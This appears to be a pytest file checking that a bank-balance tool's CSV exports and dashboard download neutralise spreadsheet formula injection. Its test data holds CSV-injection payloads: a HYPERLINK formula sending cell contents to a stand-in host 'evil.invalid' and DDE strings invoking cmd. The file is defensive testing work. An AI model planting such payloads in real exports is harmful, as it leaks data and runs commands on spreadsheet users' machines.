"""Account names that a spreadsheet would run as formulas are written inert by every CSV output:
``get``, ``accounts`` and ``history`` with ``--format csv``, and the dashboard's download."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plaid_balance._csv import FORMULA_STARTS, csv_text, spreadsheet_safe
from plaid_balance.vault import new_key_text
from tests.hardening.conftest import Backend
from tests.hardening.forkserver import ForkServer

FORMULAS = [
    '=HYPERLINK("https://evil.invalid/?"&A1,"Checking")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

ALIAS = '=HYPERLINK("https://evil.invalid/?"&A1,"bank")'  # an alias is any visible text


@pytest.fixture(scope="module")
def formula_token(backend: Backend) -> str:
    accounts = [
        {"type": "depository", "subtype": "checking", "starting_balance": -12.5, "meta": {"name": name}}
        for name in FORMULAS
    ]
    token, _ = backend.emulator.create_item(username="user_custom", password={"override_accounts": accounts})
    return token


def cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline="")):
        yield from row


def assert_inert(text: str, names: list[str] = FORMULAS) -> None:
    seen = list(cells(text))
    for cell in seen:
        assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").replace(".", "", 1).isdigit(), cell
    for name in names:
        assert "'" + name in seen, name  # shown whole, with the quote that makes it text


def test_every_csv_output_neutralises_formulas(
    formula_token: str, forks: ForkServer, backend: Backend, tmp_path: Path
) -> None:
    """get, accounts and history CSV, and the dashboard's download of the same history."""
    db = tmp_path / "db.sqlite"
    env = {
        **backend.env(),
        "HOME": str(tmp_path),
        "PLAID_ACCESS_TOKEN": formula_token,
        "PLAID_BALANCE_DB": f"sqlite:///{db}",
        "PLAID_BALANCE_VAULT_KEY": new_key_text(),
        "PLAID_BALANCE_KEYRING": "off",
    }
    items = tmp_path / "items.jsonl"
    items.write_text(json.dumps({"access_token": formula_token, "label": ALIAS}) + "\n")
    imported = forks.run(["items", "import", str(items)], env=env, cwd=str(tmp_path), timeout=60)
    assert imported.code == 0, imported
    for argv in (
        ["get", "--format", "csv", "--save"],
        ["accounts", "--format", "csv"],
        ["history", "--format", "csv"],
    ):
        result = forks.run(argv, env=env, cwd=str(tmp_path), timeout=60)
        assert result.code == 0, result
        assert_inert(result.out)
        if argv[0] == "get":
            assert "-12.5" in list(cells(result.out))  # a negative amount is a number, left alone

    from starlette.testclient import TestClient

    from plaid_balance._http_guard import Guard, HostRule
    from plaid_balance.dashboard._app import create_app
    from plaid_balance.dashboard._data import DashboardData
    from plaid_balance.storage.database import Database

    database = Database.open(f"sqlite:///{db}", create=False)
    try:
        guard = Guard(HostRule.bound("testserver", 80), token="t" * 32)
        app = guard.protect(create_app(DashboardData(database)))
        client = TestClient(app, follow_redirects=False, headers={"Authorization": "Bearer " + "t" * 32})
        for view in ("accounts", "items"):
            download = client.get(f"/history.csv?view={view}&range=all")
            assert download.status_code == 200, download.text
            assert_inert(download.text, [ALIAS] if view == "items" else [])
    finally:
        database.close()


@given(
    st.text(max_size=40)
    | st.sampled_from(FORMULAS)
    | st.decimals(allow_nan=False, allow_infinity=False).map(str)
)
def test_no_cell_starts_a_formula_and_none_loses_a_character(text: str) -> None:
    """Whatever the text, its CSV cell never starts with a formula character (numbers aside), and
    reading the CSV back gives the text, with at most a leading quote added."""
    [[cell]] = list(csv.reader(io.StringIO(csv_text([[text]]), newline="")))
    assert cell in (text, "'" + text)
    assert cell == spreadsheet_safe(text)
    if cell.startswith(FORMULA_STARTS):
        assert text.lstrip("+-")[:1].isdigit()


def test_csv_is_written_in_one_place() -> None:
    """No module but ``_csv`` makes a CSV writer: a new CSV output cannot skip the formula rule."""
    src = Path(__file__).resolve().parents[2] / "src" / "plaid_balance"
    writers = [
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if path.name != "_csv.py"
        and ("csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text)
    ]
    assert writers == []
